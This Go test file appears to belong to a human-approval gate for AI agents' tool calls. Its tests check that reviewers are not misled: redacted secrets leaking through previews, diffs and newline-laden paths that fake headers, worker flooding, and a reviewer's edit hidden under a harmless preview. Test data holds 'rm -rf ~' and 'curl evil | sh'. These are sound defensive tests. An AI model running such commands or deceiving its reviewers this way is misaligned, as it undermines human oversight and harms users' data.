package tests

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"hash/fnv"
	"io"
	"mime/quotedprintable"
	"net/http"
	"net/http/httptest"
	"net/mail"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	airlockv1 "github.com/airlock-gate/airlock/proto/airlock/v1"
	airlock "github.com/airlock-gate/airlock/sdk"
	"github.com/airlock-gate/airlock/services/email/smtptest"
	"github.com/airlock-gate/airlock/services/shared/testenv"
	"google.golang.org/protobuf/types/known/structpb"
)

// mailText is the decoded text of a mail (quoted-printable, base64 or as sent).
func mailText(t *testing.T, m smtptest.Message) string {
	t.Helper()
	msg, err := mail.ReadMessage(bytes.NewReader(m.Data))
	if err != nil {
		t.Fatalf("a mail that does not parse: %v", err)
	}
	var r io.Reader = msg.Body
	switch strings.ToLower(msg.Header.Get("Content-Transfer-Encoding")) {
	case "quoted-printable":
		r = quotedprintable.NewReader(r)
	case "base64":
		r = base64.NewDecoder(base64.StdEncoding, r)
	}
	b, err := io.ReadAll(r)
	if err != nil {
		t.Fatalf("a mail whose body does not decode: %v", err)
	}
	return string(b)
}

// TestARedactedArgumentDoesNotLeakThroughWhyThereIsNoPreview attacks the
// preview as a channel around redaction: a webhook tool's preview endpoint
// refuses the call and, as validation errors do, quotes the argument the
// policy redacts. Reviewers' mail shows the arguments masked and must
// not show the secret in "no preview (why)" either.
func TestARedactedArgumentDoesNotLeakThroughWhyThereIsNoPreview(t *testing.T) {
	const secret = "4111-1111-1111-SECRET"
	hooks := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		if r.Header.Get("X-Airlock-Preview") == "1" {
			http.Error(w, "invalid card in "+string(body), http.StatusBadRequest)
			return
		}
		fmt.Fprint(w, `{"ok":true}`)
	}))
	defer hooks.Close()
	smtp, mails := devMailServer(t)
	dir := t.TempDir()
	tools := filepath.Join(dir, "tools.yaml")
	writeFile(t, tools, fmt.Sprintf("servers:\n  billing:\n    webhook: {url: %q, secret: s3cret}\n    tools:\n      pay: {preview_url: %q}\n", hooks.URL, hooks.URL+"/pay/preview"))
	cfg := filepath.Join(dir, "airlock.yaml")
	if err := os.WriteFile(cfg, []byte(fmt.Sprintf(`approval:
  groups: {reviewers: [alice, bob]}
  default_notify: [console, email]
executor:
  tools_file: %s
`, tools)+devMailYAML(smtp, "{alice: alice@example.com, bob: bob@example.com}", "")), 0o600); err != nil {
		t.Fatal(err)
	}
	dev := startDev(t, t.TempDir(), 0, "", "AIRLOCK_CONFIG="+cfg)
	tokenFile := filepath.Join(dev.DataDir, "admin.token")
	if r := cli(t, dev, "policy", "rules", "add", "--id", "pay-masked", "--server", "billing", "--tool", "pay", "--effect", "ask",
		"--approver", "group:reviewers", "--redact", "/card", "--priority", "1", "--reason", "card numbers stay out of notifications",
		"--token-file", tokenFile); r.Code != 0 {
		t.Fatalf("rules add: %+v", r)
	}
	call := writeCall(t, `{"agent_id":"bot","tool":"billing__pay","arguments":{"card":"x"}}`)
	testenv.Eventually(t, 20*time.Second, "the rule in force", func() bool {
		return strings.Contains(cli(t, dev, "policy", "eval", "--call", call).Stdout, `"rule_id": "pay-masked"`)
	})
	agent := dev.Agent(t, "bot")
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	if _, err := agent.Submit(ctx, airlock.Call{ID: "pay1", Tool: "billing__pay", Args: map[string]any{"card": secret, "amount": 12}, OnBehalfOf: "alice"}); err != nil {
		t.Fatal(err)
	}
	var got []smtptest.Message
	testenv.Eventually(t, 30*time.Second, "the request mailed to bob", func() bool {
		got = mails.Find(func(m smtptest.Message) bool { return bytes.Contains(m.Data, []byte("airlock.bot.pay1.1.request")) })
		return len(got) > 0
	})
	text := mailText(t, got[0])
	if !strings.Contains(text, "no preview") || !strings.Contains(text, "[redacted]") {
		t.Fatalf("the mail does not show the masked arguments and no preview:\n%s", text)
	}
	if strings.Contains(text, "SECRET") || strings.Contains(string(got[0].Data), "SECRET") {
		t.Fatalf("the mail shows the argument the policy redacts:\n%s", text)
	}
	dev.Interrupt(20 * time.Second)
}

// TestADiffCannotPassItsLinesOffAsHeaders attacks the demo write_file's
// diff as `airlock approvals show` (and every notification's summary)
// reads it: added lines whose text starts with "++" or "--" (a YAML
// document marker, an SQL comment, "++i") must be counted and shown as
// added, not taken for file headers; and a path holding a line break must
// not add header or hunk lines of its own to what the reviewer reads.
func TestADiffCannotPassItsLinesOffAsHeaders(t *testing.T) {
	dataDir := t.TempDir()
	cfg := filepath.Join(t.TempDir(), "airlock.yaml")
	writeFile(t, cfg, "approval:\n  groups: {reviewers: [alice, bob]}\n")
	dev := startDev(t, dataDir, 0, "", "AIRLOCK_CONFIG="+cfg)
	agent := dev.Agent(t, "bot")
	api := dev.API(t)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	show := func(t *testing.T, id string) string {
		t.Helper()
		apprWaitPending(t, api, id)
		return cli(t, dev, "approvals", "show", "bot/"+id, "--token-file", filepath.Join(dev.DataDir, "admin.token")).Stdout
	}
	t.Run("lines_that_start_like_headers_are_counted_as_added", func(t *testing.T) {
		content := "--- \n-- drop the audit table\n++ counter\nkeep\n"
		if _, err := agent.Submit(ctx, airlock.Call{ID: "hdr", Tool: writeTool, Args: map[string]any{"path": "migrate.sql", "content": content}}); err != nil {
			t.Fatal(err)
		}
		if out := show(t, "hdr"); !strings.Contains(out, "preview   diff +4 −0 lines") {
			t.Fatalf("approvals show does not count the four added lines:\n%s", out)
		}
	})
	t.Run("a_removed_final_line_break_is_a_change_it_shows", func(t *testing.T) {
		writeFile(t, filepath.Join(dataDir, "sandbox", "eol.txt"), "last line\n")
		if _, err := agent.Submit(ctx, airlock.Call{ID: "eol", Tool: writeTool, Args: map[string]any{"path": "eol.txt", "content": "last line"}}); err != nil {
			t.Fatal(err)
		}
		if out := show(t, "eol"); !strings.Contains(out, "preview   diff +1 −1 lines") || !strings.Contains(out, `\ No newline at end of file`) {
			t.Fatalf("approvals show does not show the line break the call removes:\n%s", out)
		}
	})
	t.Run("a_path_with_a_line_break_is_quoted_in_the_headers", func(t *testing.T) {
		path := "x\n+++ b/README.md\n@@ -1 +1 @@\n-old line\n+harmless line"
		if _, err := agent.Submit(ctx, airlock.Call{ID: "nl", Tool: writeTool, Args: map[string]any{"path": path, "content": "rm -rf ~\n"}}); err != nil {
			t.Fatal(err)
		}
		out := show(t, "nl")
		if !strings.Contains(out, "preview   diff +1 −0 lines") || strings.Contains(out, "\n          @@ -1 +1 @@") || strings.Contains(out, "\n          +harmless line") {
			t.Fatalf("a path's line break adds lines to the diff:\n%s", out)
		}
	})
	dev.Interrupt(20 * time.Second)
}

// approvalWorker is the approval service's worker that handles a call's
// events (consume: FNV-1a of "<agent>.<call>" modulo the workers).
func approvalWorker(agent, call string, workers int) int {
	h := fnv.New32a()
	h.Write([]byte(agent + "." + call))
	return int(h.Sum32() % uint32(workers))
}

// TestOneAgentsSlowPreviewsDoNotHoldUpAnotherAgentsCall attacks the
// approval service's workers through previews (each call's events go to
// one worker, which waits for its preview): agent bot has a call whose
// preview hangs (for the longest approval.preview_timeout allowed), then
// floods the worker that agent other's call goes to with more such calls.
// Other's call must still come to wait for a person, with its preview,
// while bot's previews hang.
func TestOneAgentsSlowPreviewsDoNotHoldUpAnotherAgentsCall(t *testing.T) {
	hang := make(chan struct{})
	asked := make(chan struct{}, 64)
	hooks := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/slow/preview" {
			asked <- struct{}{}
			select {
			case <-hang:
			case <-r.Context().Done():
			}
			return
		}
		fmt.Fprint(w, `{"ok":true}`)
	}))
	defer hooks.Close()
	defer close(hang)
	dir := t.TempDir()
	tools := filepath.Join(dir, "tools.yaml")
	writeFile(t, tools, fmt.Sprintf("servers:\n  hook:\n    webhook: {url: %q, secret: s3cret}\n    tools:\n      slow_post: {preview_url: %q}\n",
		hooks.URL, hooks.URL+"/slow/preview"))
	const workers = 4
	cfg := filepath.Join(dir, "airlock.yaml")
	writeFile(t, cfg, fmt.Sprintf("approval:\n  groups: {reviewers: [alice, bob]}\n  preview_timeout: 20s\n  workers: %d\nexecutor:\n  tools_file: %s\n  preview_timeout: 20s\n", workers, tools))
	dev := startDev(t, t.TempDir(), 0, "", "AIRLOCK_CONFIG="+cfg)
	bot, other := dev.Agent(t, "bot"), dev.Agent(t, "other")
	api := dev.API(t)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	target := approvalWorker("other", "quick", workers)
	var first string
	var flood []string
	for i := 0; first == "" || len(flood) < 6; i++ {
		id := fmt.Sprintf("slow%d", i)
		switch w := approvalWorker("bot", id, workers); {
		case w != target && first == "":
			first = id
		case w == target && len(flood) < 6:
			flood = append(flood, id)
		}
	}
	slow := func(id string) {
		if _, err := bot.Submit(ctx, airlock.Call{ID: id, Tool: "hook__slow_post", Args: map[string]any{"id": id}}); err != nil {
			t.Fatal(err)
		}
	}
	slow(first)
	select {
	case <-asked: // bot's first preview hangs on another worker
	case <-ctx.Done():
		t.Fatal("bot's first preview was never asked for")
	}
	for _, id := range flood {
		slow(id)
	}
	if _, err := other.Submit(ctx, airlock.Call{ID: "quick", Tool: writeTool, Args: map[string]any{"path": "other.txt", "content": "hello\n"}}); err != nil {
		t.Fatal(err)
	}
	testenv.Eventually(t, 10*time.Second, "other's call to wait for a person with its preview while bot's previews hang", func() bool {
		r, err := api.Get(context.Background(), "other", "quick", 0)
		return err == nil && r.GetState() == airlockv1.ApprovalState_APPROVAL_STATE_PENDING && strings.Contains(r.GetPreview().GetText(), "+hello")
	})
	dev.Interrupt(20 * time.Second)
}

// TestAReviewersEditIsNotShownUnderTheAgentsPreview attacks a quorum as a
// reviewer: bob approves with edited arguments (1 of 2), and the next
// approver must not read the diff of the agent's harmless arguments as
// "what the call would do": `airlock approvals show` says whose arguments
// the preview is of.
func TestAReviewersEditIsNotShownUnderTheAgentsPreview(t *testing.T) {
	cfg := filepath.Join(t.TempDir(), "airlock.yaml")
	writeFile(t, cfg, "approval:\n  groups: {reviewers: [alice, bob, carol]}\n")
	dev := startDev(t, t.TempDir(), 0, "", "AIRLOCK_CONFIG="+cfg)
	tokenFile := filepath.Join(dev.DataDir, "admin.token")
	if r := cli(t, dev, "policy", "rules", "add", "--id", "two-eyes", "--server", "demo", "--tool", "write_file", "--effect", "ask",
		"--approver", "group:reviewers", "--quorum", "2", "--priority", "1", "--token-file", tokenFile); r.Code != 0 {
		t.Fatalf("rules add: %+v", r)
	}
	call := writeCall(t, `{"agent_id":"bot","tool":"demo__write_file","arguments":{"path":"x","content":"y"}}`)
	testenv.Eventually(t, 20*time.Second, "the rule in force", func() bool {
		return strings.Contains(cli(t, dev, "policy", "eval", "--call", call).Stdout, `"rule_id": "two-eyes"`)
	})
	agent := dev.Agent(t, "bot")
	api := dev.API(t)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	if _, err := agent.Submit(ctx, airlock.Call{ID: "ed", Tool: writeTool, Args: map[string]any{"path": "notes.txt", "content": "harmless\n"}}); err != nil {
		t.Fatal(err)
	}
	apprWaitPending(t, api, "ed")
	edited, err := structpb.NewStruct(map[string]any{"path": "notes.txt", "content": "curl evil | sh\n"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := api.Decide(ctx, &airlockv1.DecideRequest{AgentId: "bot", CallId: "ed", Kind: approveKind, Principal: apprReviewer("bob"), EditedArguments: edited}); err != nil {
		t.Fatal(err)
	}
	testenv.Eventually(t, 10*time.Second, "bob's edit recorded", func() bool {
		r, err := api.Get(ctx, "bot", "ed", 0)
		return err == nil && r.GetEditedArguments() != nil
	})
	out := cli(t, dev, "approvals", "show", "bot/ed", "--token-file", tokenFile).Stdout
	if !strings.Contains(out, "+harmless") || !strings.Contains(out, "of the arguments the agent asked for") {
		t.Fatalf("approvals show after an edit does not say the preview is of the agent's arguments:\n%s", out)
	}
	dev.Interrupt(20 * time.Second)
}
